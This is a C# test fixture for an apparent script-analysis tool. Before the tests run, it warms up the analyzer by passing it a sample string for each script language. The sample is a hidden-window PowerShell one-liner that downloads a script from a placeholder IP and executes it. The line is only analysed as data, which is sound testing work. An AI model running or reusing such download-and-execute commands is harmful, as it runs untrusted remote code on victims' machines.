using Redoubt.Scripts.Tests;

[assembly: AssemblyFixture(typeof(WarmAnalyzer))]

namespace Redoubt.Scripts.Tests;

/// <summary>
/// The analysis of a script is bounded by the clock, and the first one in a process by the time that its code takes to be compiled: here
/// that is before all tests.
/// </summary>
public sealed class WarmAnalyzer
{
    public WarmAnalyzer()
    {
        foreach (var language in Enum.GetValues<ScriptLanguage>())
            ScriptAnalyzer.Analyze("powershell.exe -w hidden -c \"iwr http://192.0.2.1/warm.ps1 | iex\"", new ScriptHints(language));
    }
}
